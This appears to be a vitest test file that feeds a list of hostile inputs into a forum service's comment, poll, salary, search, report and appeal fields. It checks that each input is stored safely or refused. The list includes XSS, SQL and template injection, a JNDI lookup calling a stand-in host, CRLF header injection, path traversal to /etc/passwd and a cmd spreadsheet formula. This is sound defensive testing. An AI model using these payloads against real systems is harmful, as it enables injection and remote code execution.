import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanText, publicText } from '../../src/core/posts/writing-rules';
import {
  type Person,
  startTestEnvironment,
  type TestEnvironment,
} from '../../src/server/services/posts/testing';
import { makeModerator } from '../../src/server/testing/make-moderator';

/** Every field users can write to, filled with hostile texts. */

let clock = Date.parse('2026-11-20T12:00:00Z');
let env: TestEnvironment;
let author: Person;
let other: Person;
let judge: Person;
let post: string;
beforeAll(async () => {
  env = await startTestEnvironment({ now: () => new Date(clock++) });
  [author, other, judge] = [await env.person('Author'), await env.person('Other'), await env.person('Judge')];
  post = await env.post(author.aliases.ANONYMOUS);
  const { db } = env.services;
  await makeModerator(db, judge.memberId);
});
afterAll(() => env.close());

const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table comments; --",
  '{{constructor.constructor("alert(1)")()}}',
  '[click](javascript:alert(1))',
  '[@Zentrix](//evil.example)',
  '\u202Egnp.exe\u202C',
  'a\u0301'.repeat(60),
  `Z${'\u0335'.repeat(5000)}`,
  '\u2066\u2067\u2068hidden\u2069',
  '👩‍👩‍👧‍👦'.repeat(10),
  '\uFDFA'.repeat(40),
  'क्षत्रिय '.repeat(9),
  '%00%0d%0aSet-Cookie: a=b',
  '\x24{jndi:ldap://x.example/a}',
  'a\0b',
  'half \ud83d',
  '../../../../etc/passwd',
  '\u200bx\u200b',
  '=cmd|"/c calc"!A1',
];
/** HOSTILE_TEXTS=300 uses all of them. */
const TEXTS = Number(process.env.HOSTILE_TEXTS ?? 60);
const hostile = Array.from({ length: TEXTS }, (_, index) => {
  const base = HOSTILE[index % HOSTILE.length] ?? '';
  return index < HOSTILE.length ? base : `${base.slice(0, 60)} ${String.fromCodePoint(0x100 + index * 37)}`;
});

type Reply = { readonly status: number; readonly body: unknown };

interface Sink {
  readonly write: (text: string) => Promise<Reply>;
  /** Reads the text back; omitted if only moderators read it or it is not stored. */
  readonly read?: (written: Reply, text: string) => Promise<string | undefined> | string | undefined;
  readonly field: string;
}

/** Sessions end in a day. */
async function nextDay(): Promise<void> {
  clock += 86_400_000;
  const again = async (person: Person) => ({ ...person, cookie: await env.signIn(person.memberId) });
  [author, other, judge] = [await again(author), await again(other), await again(judge)];
}

let reports = 0;
let titles = 0;
const newPost = (change: object) => ({
  title: `Title ${++titles}`,
  content: 'A text.',
  community: { type: 'TOPIC', entityId: 42 },
  profileType: 'ANONYMOUS',
  media: [],
  poll: null,
  salaryIds: [],
  ...change,
});
const send = (method: 'POST' | 'PUT', path: string, body: object, person = other): Promise<Reply> =>
  env.write(method, path, body, person.cookie);
const idOf = ({ body }: Reply) => (body as { readonly postId: string }).postId;
const offer = (change: object) => ({
  companyName: 'Zentrix',
  jobProfile: 'Engineer',
  place: 'Pune',
  fixed: 100,
  variable: 0,
  stock: 0,
  currentSalary: false,
  ...change,
});
const outside = async (
  method: 'GET' | 'POST',
  url: string,
  person: Person,
  payload?: object,
): Promise<Reply> => {
  const headers = { cookie: person.cookie, 'idempotency-key': env.services.newId() };
  const reply = await env.send({ method, url, headers, ...(payload && { payload }) });
  return { status: reply.statusCode, body: reply.body === '' ? undefined : reply.json() };
};
const SINKS: Readonly<Record<string, Sink>> = {
  'a comment': {
    write: (text) => send('POST', `/v1/post/${post}/comment`, { text, profileType: 'ANONYMOUS' }),
    read: ({ body }) => (body as { readonly text: string }).text,
    field: '/body/text',
  },
  'an option of a poll': {
    write: (text) => send('POST', '/v2/post', newPost({ poll: { options: [text, 'No way'], days: 1 } })),
    read: async (reply) => {
      const { body } = await env.get(`/v1/feed/${idOf(reply)}`, other.cookie);
      return body.poll?.options[0].text ?? JSON.stringify([reply, body]);
    },
    field: '/body/poll/options/0',
  },
  'every field of an offer': {
    write: (text) => send('POST', '/v1/salary', offer({ companyName: text, jobProfile: text, place: text })),
    read: ({ body }) => {
      const { companyName, jobProfile, place } = body as Readonly<Record<string, string>>;
      return new Set([companyName, jobProfile, place]).size === 1 ? place : 'three different texts';
    },
    field: '/body/',
  },
  'a search for communities': {
    write: (text) => outside('GET', `/feed-services/v1/community/search?q=${safeUri(text)}`, other),
    field: '/query/q',
  },
  'the note of a report': {
    write: async (text) => {
      // Fewer than a member may send in a day.
      if (++reports % 40 === 0) await nextDay();
      return send('POST', '/v1/report', {
        resourceId: post,
        resourceType: 'POST',
        reason: 'OTHER',
        note: text,
      });
    },
    read: async () => {
      const { body } = await outside('GET', '/moderation-services/v1/queue', judge);
      const queue = body as readonly { resourceId: string; reports: readonly { note: string }[] }[];
      return queue.find(({ resourceId }) => resourceId === post)?.reports[0]?.note;
    },
    field: '/body/note',
  },
};

/** A lone surrogate cannot be part of a URL. */
const safeUri = (text: string): string => encodeURIComponent(text.replace(/\p{Surrogate}/gu, 'half'));

describe('[R-529] hostile texts change no other text', () => {
  it.each(Object.entries(SINKS))(
    'hostile texts are stored, or refused with their field, as %s',
    async (_, { write, read, field }) => {
      let saved = 0;
      for (const text of hostile) {
        const reply = await write(text);
        if (reply.status < 300) {
          saved += 1;
          if (read) expect([text, cleanText(text), publicText(text)]).toContain(await read(reply, text));
          continue;
        }
        expect([400, 422], `${reply.status} ${text.slice(0, 40)}`).toContain(reply.status);
        const { errors, code } = reply.body as { errors?: { field: string }[]; code: string };
        if (code !== 'MALFORMED_REQUEST' && errors) expect(errors[0]?.field.startsWith(field)).toBe(true);
      }
      expect(saved).toBeGreaterThan(TEXTS / 2);
    },
  );
});

it('[R-529] a hostile appeal is read by moderators as it was written', async () => {
  const text = hostile[1] ?? '';
  const own = await env.comment(other.aliases.ANONYMOUS, post);
  const item = { resourceId: own, resourceType: 'COMMENT' };
  const hide = { ...item, decision: 'HIDE', rule: 'A1', text: hostile[0] };
  expect((await outside('POST', '/moderation-services/v1/decision', judge, hide)).status).toBe(204);
  const reply = await outside('POST', '/moderation-services/v1/appeal', other, { ...item, text });
  expect([reply.status, (reply.body as { text: string }).text]).toEqual([201, hostile[0]]);
  const { body } = await outside('GET', '/moderation-services/v1/queue', judge);
  const queue = body as readonly { resourceId: string; appeal: string | null }[];
  expect(queue.find(({ resourceId }) => resourceId === own)?.appeal).toBe(text);
});
